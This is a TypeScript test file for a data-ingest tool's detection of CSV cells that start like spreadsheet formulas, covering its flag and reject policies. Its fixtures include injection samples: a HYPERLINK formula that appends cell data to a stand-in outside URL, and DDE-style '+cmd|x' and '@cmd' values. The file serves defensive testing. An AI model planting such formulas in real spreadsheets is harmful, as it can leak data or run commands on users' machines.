import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { isFormulaLike, neutraliseFormula } from '../../../lib/core/formula-like.ts';
import { harness, ingestProjectFiles, rawRows } from './harness.ts';

test('formula-like: =, @, tab, CR, and + or - that is not a number; numbers and plain text are not', () => {
  // Prepare
  const formulas = ['=SUM(A1:A9)', '=1+2', '@cmd', '\t=x', '\r=x', '+cmd|x', '-2+3', '+44 20 7946 0000', '- note'];
  const plain = ['-12.5', '+3', '-.5', '1e5', 'a=b', 'plain', '', 'x@y.org', '5-3'];

  // Act
  const found = [...formulas, ...plain].filter(isFormulaLike);

  // Assess
  assert.deepEqual(found, formulas);
  assert.equal(neutraliseFormula('=SUM(A1)'), "'=SUM(A1)");
  assert.equal(neutraliseFormula('-12.5'), '-12.5');
});

describe('formula-like cells are kept and counted, or rejected when the source says so', () => {
  const folder = mkdtempSync(join(tmpdir(), 'dap-formula-'));
  after(() => rmSync(folder, { recursive: true, force: true }));
  const file = join(folder, 'people.csv');
  writeFileSync(
    file,
    [
      'ID,Name,Email,Born,Score',
      'p1,=HYPERLINK("http://x.example/?"&A1),a@x.org,,1',
      'p2,Ann,a@x.org,,-2',
      'p3,@SUM(1),a@x.org,,3',
      'p4,Bo,b@x.org,,4',
    ].join('\n'),
  );
  const withRule = (rule: string | undefined) => {
    const files = ingestProjectFiles();
    const people = JSON.parse(files['config/sources/files/people.json'] ?? '{}');
    files['config/sources/files/people.json'] = JSON.stringify(rule ? { ...people, formula_like: rule } : people);
    const h = harness(files);
    after(() => h.cleanup());
    return h;
  };

  test('by default (flag) they load as they are and the report counts them per column', async () => {
    // Prepare
    const h = withRule(undefined);

    // Act
    const summary = await h.ingest(h.drop(file, 'people'));

    // Assess
    assert.equal(summary.outcome, 'loaded');
    assert.deepEqual(summary.formula_like, { name: 2 });
    const names = (await rawRows(h, 'people')).map((row) => row.name);
    assert.deepEqual(
      names,
      ['=HYPERLINK("http://x.example/?"&A1)', 'Ann', '@SUM(1)', 'Bo'],
      'the data is as it arrived',
    );
  });

  test('under formula_like "reject" their rows are rejected with a reason; the rest load', async () => {
    // Prepare
    const h = withRule('reject');

    // Act
    const summary = await h.ingest(h.drop(file, 'people'));

    // Assess
    assert.equal(summary.outcome, 'partially_loaded');
    assert.deepEqual(summary.rows, { read: 4, loaded: 2, rejected: 2, invalid: 2, blank: 0, duplicate: 0 });
    assert.deepEqual(summary.rejected_reasons, {
      'name: starts like a spreadsheet formula (=, +, -, @); the source rejects formula_like values': 2,
    });
    assert.deepEqual(summary.formula_like, {});
  });
});
